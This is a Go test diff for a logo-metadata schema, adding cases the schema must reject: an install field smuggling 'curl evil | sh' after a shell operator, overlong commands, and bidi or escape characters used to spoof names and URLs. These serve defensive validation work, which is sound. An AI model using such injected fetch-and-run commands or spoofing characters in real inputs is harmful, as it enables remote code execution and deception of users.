@@ -4,8 +4,11 @@ import (
 	"encoding/json"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
+
+	"github.com/google/go-cmp/cmp"
 
 	"gopkg.in/yaml.v3"
 
@@ -81,6 +84,11 @@ func TestSchemasRejectBadFiles(t *testing.T) {
 		{"six categories", strings.Replace(goodMeta, "[devtools, social]", "[a, b, c, d, e, f]", 1)},
 		{"bad variant in files", goodMeta + "files:\n  icon_dark: {license: MIT}\n"},
 		{"bad component", goodMeta + "component: github-icon\n"},
+		{"install with a shell operator", goodMeta + "install: npx x; curl evil | sh\n"},
+		{"install too long", goodMeta + "install: npx " + strings.Repeat("a", 509) + "\n"},
+		{"bidi mark in name", strings.Replace(goodMeta, "GitHub", "\"Git\\u200fHub\"", 1)},
+		{"ESC in an alias", goodMeta + "aliases: [\"a\\eb\"]\n"},
+		{"bidi mark in a URL", strings.Replace(goodMeta, "https://github.com/logos", "\"https://github.com/\\u202elogos\"", 1)},
 		{"LicenseRef without license_url", strings.Replace(goodMeta, "CC0-1.0", "LicenseRef-Brand", 1)},
 		{"override LicenseRef without license_url", goodMeta + "files:\n  wordmark: {license: LicenseRef-X}\n"},
 	} {
@@ -97,5 +105,44 @@ func TestSchemasRejectBadFiles(t *testing.T) {
 	cats := compileSchema(t, "categories.schema.json")
 	if errs := cats.Validate(yamlValue(t, []byte("- {slug: Dev Tools, name: X}\n"))); len(errs) == 0 {
 		t.Error("categories schema accepted a bad slug")
+	}
+	if errs := cats.Validate(yamlValue(t, []byte("- {slug: ai, name: \"A\\u200fI\"}\n"))); len(errs) == 0 {
+		t.Error("categories schema accepted a bidi mark in a name")
+	}
+}
+
+// TestSchemaComponentNames keeps the schema's list of names a component
+// cannot take in step with the template the build derives it from.
+func TestSchemaComponentNames(t *testing.T) {
+	b, err := os.ReadFile("schema/logo.schema.json")
+	if err != nil {
+		t.Fatal(err)
+	}
+	var doc struct {
+		Properties struct {
+			Component struct {
+				Not struct{ Enum []string }
+			}
+		}
+	}
+	if err := json.Unmarshal(b, &doc); err != nil {
+		t.Fatal(err)
+	}
+	used, _, err := templateNames(nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var want []string
+	for name := range used {
+		if componentRE.MatchString(name) {
+			want = append(want, name)
+		}
+	}
+	slices.Sort(want)
+	if diff := cmp.Diff(want, doc.Properties.Component.Not.Enum); diff != "" {
+		t.Errorf("logo.schema.json: component.not.enum differs from the names the template uses (-template +schema):\n%s", diff)
+	}
+	if errs := compileSchema(t, "logo.schema.json").Validate(yamlValue(t, []byte(goodMeta+"component: React\n"))); len(errs) == 0 {
+		t.Error("the schema accepts component: React")
 	}
 }
